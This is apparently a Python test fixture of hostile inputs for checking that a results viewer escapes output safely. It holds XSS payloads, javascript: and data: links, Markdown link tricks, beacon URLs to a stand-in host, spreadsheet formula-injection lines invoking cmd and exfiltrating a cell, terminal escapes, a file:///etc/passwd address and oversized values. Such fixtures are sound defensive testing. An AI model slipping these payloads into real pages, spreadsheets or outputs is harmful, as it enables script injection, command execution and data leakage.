"""Texts, addresses and values made to be executed, fetched, misread, or to freeze who shows them."""

# ruff: noqa: E501  (a payload is clearest on one line)

from __future__ import annotations

from typing import Any

from tests.results.outputs import output

#: A word that has to stay readable in each text.
CANARY = "CANARY"
SCRIPT = "window.hacked=1"
HOME = "https://phone.home/beacon"

TEXTS = {
    "script": f"{CANARY}</td></table></div><script>{SCRIPT}</script><script src={HOME}></script>",
    "event handler": f"{CANARY}<img src=x onerror={SCRIPT}><svg/onload={SCRIPT}><details open ontoggle={SCRIPT}>",
    "attribute": f"{CANARY}\" onmouseover={SCRIPT} x=\"' onfocus={SCRIPT} autofocus '",
    "style": f"{CANARY}<style>@import '{HOME}'</style><p style=\"background:url({HOME})\">",
    "frame": f"{CANARY}<iframe srcdoc='<script>{SCRIPT}</script>'></iframe><object data={HOME}><embed src={HOME}>",
    "comment": f"{CANARY}<!--<img title='--><img src={HOME}>--><![CDATA[<script>]]><?php {SCRIPT} ?><!DOCTYPE x>",
    "half a tag": f"{CANARY}<img src={HOME} alt='",
    "entities": f"{CANARY}&lt;script&gt;&#60;img src=x&#62;&amp;&NewLine;&Tab;",
    "Markdown image": f"{CANARY}![pixel]({HOME}?x) ![pixel][ref] !![x]({HOME}) \\![x]({HOME}) ![[x]]({HOME})\n\n[ref]: {HOME}",
    "Markdown link": f"{CANARY}[x](javascript:{SCRIPT}) [x](java&#115;cript:{SCRIPT}) [x]( <javascript:{SCRIPT}> 't')",
    "Markdown link, escaped": f"{CANARY}\\[x\\](javascript:{SCRIPT}) \\\\[x\\\\](javascript:{SCRIPT}) [x\\](y](data:text/html,x)",
    "Markdown link over lines": f"{CANARY}[x](\njavascript:{SCRIPT}) [a][b]\n\n[b]:\n  javascript:{SCRIPT}\n\n> [c]: vbscript:x\n\n[c]",
    "Markdown autolink": f"{CANARY}<javascript:{SCRIPT}> <data:text/html,x> <HTTPS://phone.home@evil.example/>",
    "Markdown in HTML": f'{CANARY}\n\n<div>\n\n[x](javascript:{SCRIPT})\n\n</div>\n\n<a href="javascript:{SCRIPT}">x</a>',
    "Markdown code": f"{CANARY}\n\n```html\n<script>{SCRIPT}</script>\n\n    <img src={HOME}>\n\n`<img src={HOME}>",
    "Markdown blocks": f"{CANARY}\n# x\n===\n- x\n1. x\n> x\n\n| a | b |\n|---|---|\n| <img src={HOME}> | ![x]({HOME}) |",
    "formula of TeX": f"{CANARY} $\\href{{javascript:{SCRIPT}}}{{x}}$ $$x$$ \\\\(x\\\\) \\\\[x\\\\] \\begin{{align}}x\\end{{align}}",
    "bidi": f"{CANARY} \u202egnp.exe \u2066x\u2069 \u202ax\u202c \u2067",
    "ANSI": f"{CANARY}\x1b[2J\x1b[31mred\x1b]8;;{HOME}\x07link\x1b]8;;\x07\x9b31m\x08\x7f\x00\x0b\x0c",
    "lines": f"{CANARY}\r\n1\r2\u2028 3\u2029 4\x85 5",
    "invalid UTF-16": f"{CANARY} \ud800 \udfff\ud83d \ud83d\ude00",
    "formula": f'=HYPERLINK("{HOME}?"&A1,"{CANARY}")',
    "formula with +": f"+1+cmd|' /C {CANARY}'!A0",
    "formula with -": f"-2+3+cmd|' /C {CANARY}'!A0",
    "formula with @": f"@SUM(1+1)*cmd|' /C {CANARY}'!A0",
    "formula after a space": f" \t=cmd|' /C {CANARY}'!A0",
    "formula after a tab": f"\t=1+1 {CANARY}",
    "formula after a return": f"\r=1+1 {CANARY}",
    "wide formula": f"\uff1d1+1 {CANARY}",
    "formula in quotes": f"\",=cmd|' /C {CANARY}'!A0,\"",
}

#: Addresses that must not become links.
ADDRESSES = {
    "javascript": f"javascript:{SCRIPT}",
    "javascript in capitals": f"JaVaScRiPt:{SCRIPT}",
    "javascript after a control": f"\x01javascript:{SCRIPT}",
    "javascript over lines": f"java\nscript:{SCRIPT}",
    "data": "data:text/html,<script>x</script>",
    "vbscript": "vbscript:x",
    "blob": "blob:https://example.org/x",
    "file": "file:///etc/passwd",
    "protocol-relative": "//phone.home/x",
    "path": "/api/shutdown",
    "relative": "../../lab?reset",
    "no host": "https:///phone.home",
    "one slash": "https:/phone.home",
    "user": "https://example.org@phone.home/",
    "password": "https://example.org:443@phone.home/",
    "backslash": "https://phone.home\\@example.org/",
    "space": "https://phone.home /x",
    "tab": "https://phone\t.home/",
    "null": "https://phone.home\x00.example.org/",
    "percent in host": "https://phone%2ehome/",
    "markup in host": "https://<script>/",
    "quote in host": 'https://phone.home"onclick=x/',
    "port": "https://phone.home:99999999/",
    "brackets": "https://[::1/",
    "very long": "https://phone.home/" + "x" * 100_000,
    "halves": "https://\ud800.example/",
    "empty": "",
}

#: Values that are too much.
HUGE: dict[str, Any] = {
    "10 MB of text": CANARY + "<$\\[" * 2_500_000,
    "10 MB of one word": CANARY + "x" * 10_000_000,
    "10 MB of open links": CANARY + "](https://" * 1_000_000,
    "10 MB of spaces": CANARY + " " * 10_000_000 + "x",
    "100,000 elements": [{"name": CANARY, "n": n} for n in range(100_000)],
    "100,000 fields": {f"{CANARY} {n}": n for n in range(100_000)},
}


def nested(depth: int) -> Any:
    """A list within a list, so many times."""
    value: Any = CANARY
    for _ in range(depth):
        value = [value]
    return value


def everywhere(text: str, *, address: str = "https://example.org/page") -> Any:
    """An output of JSON with this text in every place that has one."""
    citation = {"url": address, "title": text, "excerpts": [text, text]}
    basis = [
        {"field": name, "reasoning": text, "citations": [citation, {"url": text}], "confidence": text}
        for name in ("value", "list.0", text, "nowhere." + text)
    ]
    return output({"value": text, "list": [text, {text: text}], text: {"inner": text}}, basis)


def report(text: str) -> Any:
    """A text with this text as its content, and in the basis."""
    basis = [{"field": "output", "reasoning": text, "citations": [{"url": text, "title": text}]}]
    return output(text, basis)
